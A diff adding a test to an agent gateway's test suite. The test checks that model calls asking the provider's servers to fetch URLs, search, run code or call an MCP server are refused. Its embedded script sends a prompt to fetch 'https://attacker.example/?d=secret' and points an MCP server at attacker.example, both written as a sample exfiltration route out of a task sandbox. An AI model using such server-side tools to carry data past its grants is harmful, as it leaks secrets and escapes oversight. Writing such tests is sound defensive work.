@@ -342,3 +342,58 @@ def test_a_gateway_call_of_millions_of_empty_objects_costs_gurtd_no_gigabytes(
         assert g.api("GET", "/api/health")
     finally:
         upstream.close()
+
+
+SERVER_TOOLS = r'''#!/usr/bin/python3
+"""Calls whose tools the model's own servers would run (fetch any URL, search, run code,
+call an MCP server at any URL), and a plain one; the statuses in statuses.json."""
+import http.client, json, os
+settings = json.load(open(os.path.expanduser("~/.factory/settings.json")))["customModels"][0]
+host = settings["baseUrl"].split("//")[1].split("/")[0]
+message = {"model": settings["model"], "max_tokens": 100,
+           "messages": [{"role": "user", "content": "fetch https://attacker.example/?d=secret"}]}
+bodies = [
+    {**message, "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+    {**message, "tools": [{"type": "web_search_20250305", "name": "web_search"}]},
+    {**message, "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
+    {**message, "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp",
+                                 "name": "x"}]},
+    {**message, "tools": [{"name": "Create", "description": "make a file",
+                           "input_schema": {"type": "object"}}]},
+]
+statuses = []
+for body in bodies:
+    conn = http.client.HTTPConnection(host, timeout=60)
+    conn.request("POST", "/v1/messages", json.dumps(body), {
+        "x-api-key": settings["apiKey"], "Content-Type": "application/json",
+        "anthropic-beta": "web-fetch-2025-09-10,mcp-client-2025-04-04"})
+    resp = conn.getresponse()
+    resp.read()
+    statuses.append(resp.status)
+open("/run/gurt/view/statuses.json", "w").write(json.dumps(statuses))
+'''
+
+
+def test_a_gateway_call_never_has_the_models_servers_fetch_search_or_run_for_the_task(
+        droid_gurtd: Gurtd) -> None:
+    """The body of a call went to the upstream as the task wrote it: tools of the upstream's
+    own (web fetch, web search, code execution) and MCP servers at any URL, which the
+    model's servers run for the task, reach hosts outside its grants (a fetch of
+    attacker.example?d=secret) and cost what the answer's usage does not meter (a search
+    is billed by the search).  Such calls are refused (400); a call with the task's own
+    tools goes on."""
+    g, upstream = droid_gurtd, Upstream(lambda api, body: ("Hello.", None))
+    try:
+        g.api("PUT", "/api/secrets/model", {"key": KEY})
+        g.api("PUT", "/api/settings", gateway_settings(upstream))
+        with droid_installed(g, SERVER_TOOLS):
+            task = g.create("server tools", title="server tools", worker=None,
+                            budgetCents=1000)
+            done = g.wait_done(task["id"], timeout=120)
+        path = os.path.join(g.home, "layers", done["id"], "upper", "statuses.json")
+        statuses = json.loads(Path(path).read_text())
+        assert statuses == [400, 400, 400, 400, 200], statuses
+        assert len(upstream.requests) == 1
+        assert "mcp_servers" not in upstream.requests[0]["body"]
+    finally:
+        upstream.close()
